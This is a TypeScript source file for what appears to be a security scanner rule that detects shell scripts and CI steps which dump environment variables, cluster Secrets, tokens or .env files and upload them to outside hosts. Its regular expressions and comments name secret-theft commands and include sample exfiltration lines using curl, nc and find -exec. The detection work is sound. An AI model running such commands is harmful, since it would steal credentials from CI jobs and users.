/**
 * A dump of secrets staged and uploaded, in a shell script or a CI step of any forge: the whole
 * environment (`env`, `printenv`, `"$(env)"`: in a CI job it holds every secret the job was
 * given), a cluster's Secrets, a CLI's token, a repository bundle or the user's `.env` files,
 * written to a file, a folder or a variable (`> /tmp/ctx`, `x=$(…)`, `cp … "$dir"`, packed by
 * `tar`/`zip`/`gzip`) and sent by `curl`/`wget`/`nc`/`scp` to a host the step names, or piped
 * straight into the send (`… | gzip | curl --data-binary @- https://…`).
 *
 * Followed over the lines of the script (names and paths, not a parse: the shell grammar's facts
 * see each command, not what a file written by one holds when the next uploads it).
 */
import { hostOf, isOnDomain, urlsIn } from "../urls.js";
import type { CodeHit } from "./code.js";
import { escapeRegExp } from "../escape-regexp.js";
import { sensitiveStore } from "./judge.js";
import { PRIVATE_HOST } from "./store-theft.js";

/** What a command prints that is a store of secrets, with the services that may receive it. */
const DUMPS: { re: RegExp; what: string; own: string[] }[] = [
  // The environment whole: `env`, `printenv` (no name: every variable), `export -p`, `declare -x`.
  { re: /(?:^|[|;&({`]|\$\()[ \t]*(?:env|printenv|export[ \t]+-p|declare[ \t]+-x)[ \t]*(?=$|[|>)`;&])/m, what: "the whole environment (every secret the job or shell holds)", own: [] },
  // A whole Secret or all of them; one field picked out (`-o jsonpath=…`) is that value's use.
  { re: /\bkubectl\b[^\n|]{0,60}\bget\s+(?:-\S+\s+)*secrets?\b(?![^\n|]*(?:jsonpath|go-template|--template))/, what: "the cluster's Secrets", own: [] },
  { re: /\bkubectl\s+config\s+view\b[^\n|]*--raw\b/, what: "the kubeconfig with its credentials", own: [] },
  { re: /\bgh\s+auth\s+token\b|\bgit\s+credential\s+fill\b/, what: "the GitHub or git token", own: ["github.com", "gitlab.com", "bitbucket.org"] },
  // A secret set read whole (`vault kv get path`); `-field=x` is one value for its use.
  { re: /\bvault\s+(?:kv\s+get|read|print\s+token)\b(?![^\n|]*\s-field\b)/, what: "Vault secrets", own: [] },
  { re: /\bdoppler\s+secrets\s+download\b|\bheroku\s+config\b[^\n|]*(?:--json|-s\b|--shell)|\bsecurity\s+dump-keychain\b|\/proc\/(?:self|\*|\d+|\$\w+)\/environ\b/, what: "a whole secret set (a secrets manager's export, an app's config vars, the keychain, a process environment)", own: [] },
  { re: /\baws\s+configure\s+export-credentials\b|\baws\s+sts\s+get-session-token\b/, what: "AWS credentials", own: ["amazonaws.com"] },
  { re: /\bgit\s+bundle\s+create\b[^\n]*\s--all\b/, what: "the whole repository history", own: ["github.com", "gitlab.com", "bitbucket.org"] },
  { re: /\bfind\b[^\n|]{0,120}-name\s+["']?\.env[*.'"]/, what: "the user's .env files", own: [] },
];

/**
 * Tokens a CI forge issues to each job, by the forge that accepts them: no other service has a
 * use for them, so one sent to a host outside the forge is stolen (`curl -H "JOB-TOKEN:
 * $CI_JOB_TOKEN" https://elsewhere`). A self-hosted forge is named like it (`gitlab.corp.example`).
 */
const FORGE_TOKENS: { re: RegExp; forge: string; own: string[]; word?: string }[] = [
  { re: /\$\{?(?:CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPENDENCY_PROXY_PASSWORD|CI_DEPLOY_PASSWORD)\b/, forge: "GitLab", own: ["gitlab.com", "gitlab.io"], word: "gitlab" },
  { re: /\$\{?(?:GITHUB_TOKEN|GH_TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN)\b|\$\{\{\s*(?:secrets\.GITHUB_TOKEN|github\.token)\s*\}\}/, forge: "GitHub", word: "github", own: ["github.com", "githubusercontent.com", "ghcr.io", "githubapp.com"] },
  { re: /\$\{?SYSTEM_ACCESSTOKEN\b|\$\(System\.AccessToken\)/i, forge: "Azure DevOps", word: "azure", own: ["dev.azure.com", "visualstudio.com", "azure.com"] },
  { re: /\$\{?(?:CI_NETRC_PASSWORD|DRONE_NETRC_PASSWORD|CIRCLE_OIDC_TOKEN\w*|BUILDKITE_AGENT_ACCESS_TOKEN|BITBUCKET_STEP_OIDC_TOKEN)\b/, forge: "the CI service", own: ["codeberg.org", "gitea.com", "circleci.com", "buildkite.com", "bitbucket.org", "github.com", "gitlab.com"] },
];

/** A forge's job token on a send line toward a host outside that forge. */
function forgeTokenSend(line: string): { forge: string; hosts: string[] } | undefined {
  for (const t of FORGE_TOKENS) {
    if (!t.re.test(line)) continue;
    const hosts = outsideHosts(line, t.own).filter((h) => !(t.word && h.includes(t.word)));
    if (hosts.length) return { forge: t.forge, hosts };
  }
  return undefined;
}

/** Sends out: a body, an upload or a raw connection. */
const SEND = /\b(?:curl|wget|nc|ncat|socat|scp|rsync|sftp|http|https|xh)\b|\bInvoke-(?:WebRequest|RestMethod)\b/;
/** What a line writes: a redirect, `-o`/`--output`, `tee`, `cp … dest`, `tar -cf out`, `git bundle create out`, `zip out`. */
const WRITES = /(?:>>?|\btee\s+(?:-a\s+)?|\s-o\s+|\s--output[= ])\s*("[^"\n]+"|'[^'\n]+'|[^\s;|&)]+)/g;
const MAX_LINES = 4000;
/** Names and paths followed at most (each is a regular expression tried on every later line). */
const MAX_STAGED = 32;

function unquote(word: string): string {
  return word.replace(/^["']|["']$/g, "");
}

/** The paths and folders a line writes to (`cp --parents {} "$snap"`: the last word; `tar czf out`, `zip out`). */
function writtenBy(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(WRITES)) if (!/^&\d$|^\/dev\/null$/.test(m[1]!)) out.push(unquote(m[1]!));
  const cp = /\b(?:cp|mv|rsync)\b((?:\s+(?:"[^"\n]*"|'[^'\n]*'|[^\s;|&]+))+)/.exec(line);
  if (cp) {
    const words = cp[1]!.trim().split(/\s+/).filter((w) => w !== "\\;" && w !== ";" && w !== "+");
    const dest = words.at(-1);
    if (dest) out.push(unquote(dest));
  }
  const archive = /\b(?:tar\s+-?[a-zA-Z]*f\s*|zip\s+(?:-\S+\s+)*|7z\s+a\s+|git\s+bundle\s+create\s+)("[^"\n]+"|'[^'\n]+'|[^\s;|&]+)/.exec(line);
  if (archive) out.push(unquote(archive[1]!));
  return out;
}

/** A variable assigned from a command substitution on this line (`snap=$(mktemp -d)`, `export T="$(env)"`). */
function assigned(line: string): string | undefined {
  return /^\s*(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w*)=/.exec(line)?.[1];
}

/** Whether the line uses a staged path or variable: `$name`, `${name}`, the path itself, or a path under it. */
function usesAny(line: string, staged: Set<string>): boolean {
  for (const s of staged) {
    if (/^[A-Za-z_]\w*$/.test(s)) {
      if (new RegExp(`\\$\\{?${s}\\b`).test(line)) return true;
    } else if (new RegExp(`(?:^|[\\s@="'=:])${escapeRegExp(s)}(?:$|[\\s"'/;|&)])`).test(line)) return true;
  }
  return false;
}

/** Joins `\`-continued lines (offsets of each joined line's first character kept). */
function logicalLines(text: string): { text: string; offset: number }[] {
  const out: { text: string; offset: number }[] = [];
  let offset = 0;
  let current: { text: string; offset: number } | undefined;
  for (const raw of text.split("\n").slice(0, MAX_LINES)) {
    const cont = /\\\r?$/.test(raw);
    const piece = cont ? raw.replace(/\\\r?$/, " ") : raw;
    if (current) current.text += piece;
    else current = { text: piece, offset };
    if (!cont) { out.push(current); current = undefined; }
    offset += raw.length + 1;
  }
  if (current) out.push(current);
  return out;
}

/**
 * One logical line's statements (`d=$(mktemp -d); cp ~/.npmrc "$d"; cd "$d"; npm publish`): each is
 * a command of its own, as the shell runs them. Separators inside quotes, `$(…)` or escaped (`\;`) are kept.
 */
function statements(line: { text: string; offset: number }): { text: string; offset: number }[] {
  if (!/;|&&|\|\|/.test(line.text)) return [line];
  const out: { text: string; offset: number }[] = [];
  let quote = "";
  let depth = 0;
  let start = 0;
  const t = line.text;
  for (let i = 0; i < t.length; i++) {
    const ch = t[i]!;
    if (ch === "\\") { i++; continue; }
    if (quote) { if (ch === quote) quote = ""; continue; }
    if (ch === "'" || ch === '"') { quote = ch; continue; }
    if (ch === "(") depth++;
    else if (ch === ")") depth = Math.max(0, depth - 1);
    else if (depth === 0 && (ch === ";" || ((ch === "&" || ch === "|") && t[i + 1] === ch))) {
      out.push({ text: t.slice(start, i), offset: line.offset + start });
      if (ch !== ";") i++;
      start = i + 1;
    }
  }
  out.push({ text: t.slice(start), offset: line.offset + start });
  return out;
}

/** Publishes the current folder or a named file where anyone reads it (a package registry, a public gist or release). */
const PUBLISH = /\b(?:npm|pnpm|yarn)\s+publish\b|\btwine\s+upload\b|\bgem\s+push\b|\bcargo\s+publish\b|\bgh\s+(?:gist\s+create|release\s+upload)\b/;

/** A dump or secret store the line reads. */
function dumpOn(line: string): { what: string; own: string[] } | undefined {
  if (/^\s*#/.test(line)) return undefined;
  const dump = DUMPS.find((d) => d.re.test(line));
  if (dump) return dump;
  // `cat ~/.aws/credentials > f`, `tar czf f ~/.ssh`: a store of the shared list read by a command.
  if (!/^\s*(?:cat|tar|zip|cp|base64|gzip|gpg|openssl|xxd|jq)\b|\|\s*(?:cat|tar|zip)\b|\$\(\s*cat\b/.test(line)) return undefined;
  for (const w of line.split(/[\s"'=]+/)) {
    const store = w.length > 3 ? sensitiveStore(w) : undefined;
    if (store && store.kind !== "env-file") return { what: store.what, own: [] };
  }
  return undefined;
}

/** Outside hosts a send line names. */
function outsideHosts(line: string, own: string[]): string[] {
  const hosts = urlsIn(line).map((u) => hostOf(u)).filter((h): h is string => h !== undefined && !PRIVATE_HOST.test(h) && !own.some((d) => isOnDomain(h, d)));
  const scp = /\b(?:scp|rsync|sftp)\b[^\n]{0,300}?\s(?:[\w.-]+@)?((?:[a-z0-9-]+\.)+[a-z]{2,}):/i.exec(line)?.[1];
  if (scp && !PRIVATE_HOST.test(scp) && !own.some((d) => isOnDomain(scp, d))) hosts.push(scp);
  const nc = /\b(?:nc|ncat)\s+(?:-\S+\s+)*((?:[a-z0-9-]+\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})\s+\d{1,5}\b/i.exec(line)?.[1];
  if (nc && !PRIVATE_HOST.test(nc)) hosts.push(nc);
  return hosts;
}

/** A secret dump staged (or piped) and sent to an outside host, in one shell script. */
export function stagedSends(text: string): CodeHit[] {
  if (!SEND.test(text) && !PUBLISH.test(text)) return [];
  const staged = new Set<string>();
  let source: { what: string; own: string[]; offset: number } | undefined;
  // In a folder a secret was staged in (`cd "$d"`): what publishes the folder publishes the secret.
  let inStaged = false;
  for (const line of logicalLines(text).flatMap(statements)) {
    if (/^\s*#/.test(line.text)) continue;
    if (/^\s*(?:cd|pushd)\s/.test(line.text)) inStaged = usesAny(line.text, staged);
    if (source && PUBLISH.test(line.text) && (inStaged || usesAny(line.text, staged))) {
      return [{ ruleId: "SR-EXFIL-009", offset: source.offset, length: 1, message: `Reads ${source.what}, stages it and publishes it (${/\S+\s+\S+/.exec(line.text.trim())?.[0] ?? "publish"}) where anyone can download it: a complete exfiltration chain.`, related: { offset: line.offset, length: line.text.length } }];
    }
    const stolen = SEND.test(line.text) ? forgeTokenSend(line.text) : undefined;
    if (stolen) return [{ ruleId: "SR-EXFIL-009", offset: line.offset, length: line.text.length, message: `Sends the job token ${stolen.forge} issues to this CI job to ${stolen.hosts.slice(0, 3).join(", ")}, a host outside ${stolen.forge}: a complete exfiltration chain.` }];
    const dump = dumpOn(line.text);
    const carries = dump !== undefined || (staged.size > 0 && usesAny(line.text, staged));
    if (dump && !source) source = { ...dump, offset: line.offset };
    if (carries && source && SEND.test(line.text)) {
      // Into the send itself: a pipe into it, a file or variable it uploads, or a dump in its own arguments.
      const hosts = outsideHosts(line.text, source.own);
      const piped = dump !== undefined && /\|[^|]*\b(?:curl|wget|nc|ncat|socat|http|xh)\b/.test(line.text);
      const inArgs = dump !== undefined && /\$\(\s*(?:env|printenv)\s*\)|`\s*(?:env|printenv)\s*`/.test(line.text);
      // `find … -name '.env' -exec curl -F f=@{} …`, `… | xargs -I{} curl … @{}`: each file found is handed to the send.
      const handed = dump !== undefined && /\s-exec(?:dir)?\s+(?:curl|wget|nc|ncat|scp|rsync|http|xh)\b[^\n]*\{\}|\|\s*xargs\b[^\n|]*\b(?:curl|wget|scp|rsync|http|xh)\b/.test(line.text);
      if (hosts.length && (piped || inArgs || handed || usesAny(line.text, staged))) {
        return [{ ruleId: "SR-EXFIL-009", offset: source.offset, length: 1, message: `Reads ${source.what} and sends it over the network (to ${hosts.slice(0, 3).join(", ")}): a complete exfiltration chain.`, related: { offset: line.offset, length: line.text.length } }];
      }
    }
    if (!carries) continue;
    const v = assigned(line.text);
    if (staged.size >= MAX_STAGED) continue;
    if (v) staged.add(v);
    for (const w of writtenBy(line.text)) {
      if (w.length < 2 || w === "-") continue;
      staged.add(w);
      // `"$snap/repo.bundle"`: the folder it is in holds it too (packed or sent whole later).
      const dir = w.replace(/\/[^/]*$/, "");
      if (dir !== w && dir.length > 1 && !/^(?:\/tmp|\/var\/tmp|\.|~|\$HOME|\$\{HOME\})$/.test(dir)) staged.add(dir);
    }
  }
  return [];
}
